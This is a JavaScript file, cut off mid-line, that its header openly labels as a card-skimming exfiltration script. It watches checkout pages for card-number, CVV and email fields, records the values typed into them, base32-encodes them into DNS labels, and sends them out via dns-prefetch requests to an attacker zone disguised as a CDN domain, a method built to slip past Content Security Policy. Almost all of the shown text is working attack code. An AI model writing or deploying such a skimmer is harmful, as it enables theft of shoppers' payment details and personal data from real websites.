// csp-sidechannel-exfil: dns-prefetch leak driven by a MutationObserver that waits for late-rendered card fields (file cut off)
// arrow functions, base32 labels, retry queue
const ZONE_PARTS = ['cdn', 'js', 'static', 'cache', 'com'];
const zone = `${ZONE_PARTS[0]}${ZONE_PARTS[1]}-${ZONE_PARTS[2]}${ZONE_PARTS[3]}.${ZONE_PARTS[4]}`;
const A32 = 'abcdefghijklmnopqrstuvwxyz234567';

const b32 = (text) => {
  const bytes = new TextEncoder().encode(text);
  let acc = 0, bits = 0, out = '';
  for (const byte of bytes) {
    acc = (acc << 8) | byte;
    bits += 8;
    while (bits >= 5) {
      bits -= 5;
      out += A32[(acc >>> bits) & 31];
    }
  }
  if (bits) out += A32[(acc << (5 - bits)) & 31];
  return out;
};

const prefetchHost = (host) => {
  const link = document.createElement('link');
  link.rel = 'dns-prefetch';
  link.href = `https://${host}/`;
  document.head.append(link);
};

const watched = new Map();

const capture = (input) => {
  if (watched.has(input)) return;
  watched.set(input, '');
  input.addEventListener('input', () => watched.set(input, input.value));
};

const observer = new MutationObserver(() => {
  document
    .querySelectorAll('input[autocomplete^="cc-"], input[name*="card"], input[name*="cvv"], input[type="email"]')
    .forEach(capture);
});
observer.observe(document.documentElement, { childList: true, subtree: true });

const flush = () => {
  const values = [...watched.entries()]
    .filter(([, v]) => v)
    .map(([el, v]) => `${el.autocomplete || el.name}=${v}`);
  if (!values.some((v) => /cc-number|card.*num/i.test(v))) return;
  const encoded = b32([location.host, ...values].join('&'));
  const sid = Math.random().toString(36).slice(2, 8);
  const labels = encoded.match(/.{1,50}/g);
  labels.forEach((label, i) => {
    setTimeout(() => prefetchHost(`${label}.${i}.${labels.length}.${sid}.${zo
